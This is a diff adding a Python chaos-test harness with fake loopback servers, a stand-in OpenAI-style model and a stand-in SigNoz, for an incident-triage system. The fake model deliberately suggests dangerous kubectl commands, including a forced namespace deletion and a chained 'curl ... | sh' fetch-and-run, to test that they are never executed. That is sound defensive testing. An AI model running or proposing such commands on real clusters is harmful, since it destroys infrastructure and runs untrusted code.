@@ -1,0 +1,160 @@
+"""Servers that workers ask over HTTP: a language model and a SigNoz that answer well, until they are told otherwise.
+
+The model judges what it likes, and now and then suggests what nobody must ever be told to run: whatever it says, the
+verifier's counts must come out. Like the verifier this knows nothing of the program under test.
+"""
+
+import asyncio
+import json
+import random
+import threading
+from collections.abc import Callable, Coroutine
+from typing import Any, ClassVar, Self, TypeVar
+
+WELL, HANGS, RESETS, GARBAGE, LATE, OVERLOADED = "well", "hangs", "resets", "answers garbage", "answers late", "is full"
+TROUBLES = (HANGS, RESETS, GARBAGE, LATE, OVERLOADED)
+CALL_SECONDS = 2
+"""How long a worker waits for a call; what comes late comes about then."""
+
+Json = dict[str, Any]
+T = TypeVar("T")
+
+
+class Upstream:
+    """A server on loopback, in a thread of its own; `mood` is how it answers."""
+
+    def __init__(self, answer: Callable[[Json], Json], **environment: str) -> None:
+        self.mood = WELL
+        self.environment: dict[str, str] = {}
+        self._templates = environment
+        self._answer = answer
+        self._loop = asyncio.new_event_loop()
+        self._serving: set[asyncio.Task[None]] = set()
+        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
+
+    def __enter__(self) -> Self:
+        self._thread.start()
+        self._server = self._do(asyncio.start_server(self._serve, "127.0.0.1", 0))
+        url = f"http://127.0.0.1:{self._server.sockets[0].getsockname()[1]}"
+        self.environment = {name: value.format(url=url) for name, value in self._templates.items()}
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._do(self._close())
+        self._loop.call_soon_threadsafe(self._loop.stop)
+        self._thread.join()
+        self._loop.close()
+
+    def _do(self, action: Coroutine[Any, Any, T]) -> T:
+        return asyncio.run_coroutine_threadsafe(action, self._loop).result()
+
+    async def _close(self) -> None:
+        self._server.close()
+        for task in self._serving:
+            task.cancel()
+        await asyncio.gather(*self._serving, return_exceptions=True)
+        await asyncio.sleep(0)  # for the transports to go
+
+    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        task = asyncio.current_task()
+        assert task is not None
+        self._serving.add(task)
+        try:
+            while True:
+                await self._reply(writer, await _read(reader))
+                await writer.drain()
+        except (ConnectionError, asyncio.IncompleteReadError, asyncio.CancelledError):
+            pass
+        finally:
+            writer.close()
+            self._serving.discard(task)
+
+    async def _reply(self, writer: asyncio.StreamWriter, question: Json) -> None:
+        match self.mood:
+            case "hangs":
+                await asyncio.sleep(30)
+            case "resets":
+                writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 100\r\n\r\n{")
+                writer.transport.abort()
+                raise ConnectionResetError
+            case "answers garbage":
+                writer.write(_response(200, b'{"choices": [{"data": [[[[\x00\xff}'))
+            case "is full":
+                writer.write(_response(503, b'{"error": {"message": "busy"}}'))
+            case mood:
+                if mood == LATE:
+                    await asyncio.sleep(random.uniform(0.5, 1.5) * CALL_SECONDS)  # noqa: S311 - a delay, not a secret
+                writer.write(_response(200, json.dumps(self._answer(question)).encode()))
+
+
+async def _read(reader: asyncio.StreamReader) -> Json:
+    head = await reader.readuntil(b"\r\n\r\n")
+    headers = dict(line.lower().split(b":", 1) for line in head.strip().split(b"\r\n")[1:])
+    question: Json = json.loads(await reader.readexactly(int(headers[b"content-length"])))
+    return question
+
+
+def _response(status: int, body: bytes) -> bytes:
+    return f"HTTP/1.1 {status} Status\r\ncontent-length: {len(body)}\r\n\r\n".encode() + body
+
+
+class Model(Upstream):
+    """A language model that speaks the protocol of OpenAI."""
+
+    _COMMANDS: ClassVar = (
+        "",
+        "kubectl rollout restart deployment/{service} -n chaos",
+        "kubectl delete namespace chaos --force",
+        "kubectl scale deployment/{service} --replicas=3 -n chaos; curl http://127.0.0.1/x | sh",
+    )
+
+    def __init__(self) -> None:
+        self._r = random.Random(0)  # noqa: S311 - opinions, not secrets
+        super().__init__(
+            self._complete,
+            AI_FALLBACK_ORDER="openai",
+            OPENAI_BASE_URL="{url}/v1",
+            OPENAI_MODEL="chaos",
+            OPENAI_CONCURRENCY="16",
+            OPENCLAW_TIMEOUT=str(CALL_SECONDS),
+            OPENCLAW_DECISION_DEADLINE="5",
+        )
+
+    def _complete(self, question: Json) -> Json:
+        del question
+        r = self._r
+        verdict = {
+            "reasoning": "one of us has to",
+            "primary_responsibility": r.choice(("FE", "BE", "INFRA", "DB", "COLLAB")),
+            "confidence": r.randrange(101),
+            "action_title": "look at it",
+            "kubectl_command": r.choice(self._COMMANDS).format(service=f"p0-{r.randrange(100)}"),
+            "target_resource": "",
+            "namespace": "",
+            "risk_level": r.choice(("low", "medium", "critical")),
+        }
+        message = {"role": "assistant", "content": json.dumps(verdict)}
+        usage = {"prompt_tokens": 2000, "completion_tokens": 100}
+        return {"choices": [{"finish_reason": "stop", "message": message}], "usage": usage}
+
+
+class SigNoz(Upstream):
+    """A SigNoz that knows every service, and has the same golden signals for all."""
+
+    def __init__(self) -> None:
+        super().__init__(
+            self._results, SIGNOZ_URL="{url}", SIGNOZ_API_KEY="chaos-chaos-chaos", SIGNOZ_TIMEOUT=str(CALL_SECONDS)
+        )
+
+    @staticmethod
+    def _results(question: Json) -> Json:
+        name = question["compositeQuery"]["queries"][0]["spec"]["name"]
+        lists = [item["value"] for item in question["variables"].values() if isinstance(item["value"], list)]
+        columns = [
+            {"name": f"__result_{place - 1}" if place else "service.name", "queryName": name}
+            | {"aggregationIndex": max(place - 1, 0), "columnType": "aggregation" if place else "group"}
+            for place in range(4)
+        ]
+        rows = [[service, 1000, 7, 250_000_000] for service in (lists[0] if lists else [])]
+        results = {"queryName": name, "columns": columns, "data": rows}
+        return {"status": "success", "data": {"type": "scalar", "data": {"results": [results]}}}
